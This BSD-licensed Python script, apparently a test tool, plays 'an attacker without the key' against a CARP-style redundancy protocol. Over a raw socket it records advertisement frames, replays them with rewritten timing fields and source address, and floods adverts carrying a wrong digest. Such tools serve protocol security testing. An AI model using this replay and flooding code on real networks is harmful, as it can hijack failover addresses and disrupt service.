# SPDX-License-Identifier: BSD-2-Clause
"""An attacker without the key: records adverts and sends them again.

    replayer.py IFACE record VHID COUNT FILE
    replayer.py IFACE play FILE EVERY COUNT [ADVBASE ADVSKEW [SOURCE]]
    replayer.py IFACE bad VHID COUNT SOURCE

`play` sends the recorded frames in turn, each EVERY seconds, COUNT in all, with other intervals
and another source if given: the digest covers neither.  `bad` sends adverts with a wrong digest
as fast as it can.
"""
import pathlib
import socket
import struct
import sys
import time

import adverts

AT = 14 + 20        # of the advert in an untagged IPv4 frame


def _open(interface):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    wire.bind((interface, 0))
    return wire


def _record(wire, vhid, count, path):
    frames = []
    while len(frames) < count:
        frame = wire.recv(2048)
        if (len(frame) == AT + 36 and frame[12:14] == b"\x08\x00" and frame[23] == 112
                and frame[AT + 1] == vhid):
            frames.append(frame)
    pathlib.Path(path).write_bytes(b"".join(frames))
    print("recorded", flush=True)


def _rewrite(frame, advbase, advskew):
    frame = bytearray(frame)
    frame[AT + 2], frame[AT + 5] = advskew, advbase
    frame[AT + 6:AT + 8] = b"\0\0"
    frame[AT + 6:AT + 8] = struct.pack("!H", adverts._checksum(bytes(frame[AT:])))
    return bytes(frame)


def _resource(frame, source):
    frame = bytearray(frame)
    frame[26:30] = socket.inet_aton(source)
    frame[24:26] = b"\0\0"
    frame[24:26] = struct.pack("!H", adverts._checksum(bytes(frame[14:34])))
    return bytes(frame)


def _play(wire, path, every, count, advbase=None, advskew=None, source=None):
    data = pathlib.Path(path).read_bytes()
    frames = [data[n:n + AT + 36] for n in range(0, len(data), AT + 36)]
    if advbase is not None:
        frames = [_rewrite(frame, int(advbase), int(advskew)) for frame in frames]
    if source is not None:
        frames = [_resource(frame, source) for frame in frames]
    for n in range(count):
        wire.send(frames[n % len(frames)])
        time.sleep(every)
    print("played", flush=True)


def _bad(wire, vhid, count, source):
    for n in range(count):
        wire.send(adverts.frame(vhid, n, source))
    print("sent", flush=True)


def _main(interface, what, *words):
    with _open(interface) as wire:
        if what == "record":
            _record(wire, int(words[0]), int(words[1]), words[2])
        elif what == "bad":
            _bad(wire, int(words[0]), int(words[1]), words[2])
        else:
            _play(wire, words[0], float(words[1]), int(words[2]), *words[3:])


if __name__ == "__main__":
    _main(*sys.argv[1:])
